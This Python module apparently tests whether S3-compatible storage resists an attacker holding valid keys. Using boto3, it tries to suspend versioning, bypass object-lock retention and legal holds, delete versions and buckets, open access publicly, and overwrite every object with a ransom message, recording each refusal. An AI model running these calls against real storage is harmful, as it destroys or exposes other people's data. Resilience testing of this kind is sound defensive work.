"""What somebody tries who has a host and the keys on it.

Sent as text to that host and run there: boto3, which the agent brings, and the standard library only.
"""

from __future__ import annotations

import json
import warnings
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterator

JUNK = b"pay, or all of it stays like this"
SOON = datetime.now(UTC) + timedelta(minutes=1)
EXPIRY = {"ID": "gone", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 1}}

Call = tuple[str, dict[str, Any]]
"""A method of the client and its parameters, without bucket, key and version."""
OF_A_BUCKET: dict[str, Call] = {
    "suspend versions": ("put_bucket_versioning", {"VersioningConfiguration": {"Status": "Suspended"}}),
    "take the lock away": (
        "put_object_lock_configuration",
        {"ObjectLockConfiguration": {"ObjectLockEnabled": "Enabled"}},
    ),
    "let everything expire": (
        "put_bucket_lifecycle_configuration",
        {"LifecycleConfiguration": {"Rules": [EXPIRY]}},
    ),
    "delete the policy": ("delete_bucket_policy", {}),
    "open it to all": ("put_bucket_acl", {"ACL": "public-read-write"}),
    "delete the bucket": ("delete_bucket", {}),
}
OF_A_VERSION: dict[str, Call] = {
    "delete the version": ("delete_object", {}),
    "delete past governance": ("delete_object", {"BypassGovernanceRetention": True}),
    "shorten": (
        "put_object_retention",
        {"Retention": {"Mode": "COMPLIANCE", "RetainUntilDate": SOON}},
    ),
    "shorten past governance": (
        "put_object_retention",
        {"BypassGovernanceRetention": True, "Retention": {"Mode": "GOVERNANCE", "RetainUntilDate": SOON}},
    ),
    "take a hold off": ("put_object_legal_hold", {"LegalHold": {"Status": "OFF"}}),
}
OF_A_NAME: dict[str, Call] = {"hide": ("delete_object", {}), "overwrite": ("put_object", {"Body": JUNK})}


def open_policy(bucket: str) -> str:
    """A policy that lets everybody do everything."""
    resources = [f"arn:aws:s3:::{bucket}", f"arn:aws:s3:::{bucket}/*"]
    allowed = {"Effect": "Allow", "Principal": {"AWS": ["*"]}, "Action": ["s3:*"], "Resource": resources}
    return json.dumps({"Version": "2012-10-17", "Statement": [allowed]})


def calls(bucket: str, objects: list[list[str]]) -> Iterator[tuple[str, str, Call]]:
    """Attack, key and call, whole. What writes over a name comes last: the others name a version."""
    where = {"Bucket": bucket}
    for name, (method, more) in OF_A_BUCKET.items():
        yield name, "", (method, {**where, **more})
    yield "write a policy", "", ("put_bucket_policy", {**where, "Policy": open_policy(bucket)})
    for key, version in objects:
        at = {**where, "Key": key}
        for name, (method, more) in OF_A_VERSION.items():
            yield name, key, (method, {**at, "VersionId": version, **more})
        many = {"Delete": {"Objects": [{"Key": key, "VersionId": version}]}}
        yield "delete many", key, ("delete_objects", {**where, **many})
    for key, _ in objects:
        for name, (method, more) in OF_A_NAME.items():
            yield name, key, (method, {**where, "Key": key, **more})


def client(task: dict[str, Any]) -> Any:
    """Of one account, at one store."""
    import boto3
    from botocore.config import Config

    warnings.filterwarnings("ignore")
    return boto3.client(
        "s3",
        endpoint_url=task["endpoint"],
        region_name=task["region"],
        aws_access_key_id=task["account"],
        aws_secret_access_key=task["secret"],
        verify=task["authority"],
        config=Config(
            signature_version="s3v4", s3={"addressing_style": "path"}, retries={"total_max_attempts": 1}
        ),
    )


def tried(store: Any, call: Call) -> str:
    """`done`, or the store's word for its refusal; of several objects it stands inside an answer of 200."""
    from botocore.exceptions import BotoCoreError, ClientError

    method, parameters = call
    try:
        answer = getattr(store, method)(**parameters)
    except ClientError as error:
        found = error.response
        return str(found.get("Error", {}).get("Code") or found["ResponseMetadata"]["HTTPStatusCode"])
    except BotoCoreError as error:
        return f"no answer: {error}"
    refused = answer.get("Errors") or []
    return str(refused[0].get("Code")) if refused else "done"


def play(task: dict[str, Any]) -> list[dict[str, str]]:
    """Try everything on `bucket` and its `objects` (key, version). One finding each: attack, key, answer."""
    store = client(task)
    return [
        {"attack": name, "key": key, "answer": tried(store, call)}
        for name, key, call in calls(task["bucket"], task["objects"])
    ]


def bury(task: dict[str, Any]) -> list[dict[str, str]]:
    """Write junk over every object."""
    store, (method, more) = client(task), OF_A_NAME["overwrite"]
    return [
        {
            "attack": "overwrite",
            "key": key,
            "answer": tried(store, (method, {"Bucket": task["bucket"], "Key": key, **more})),
        }
        for key, _ in task["objects"]
    ]
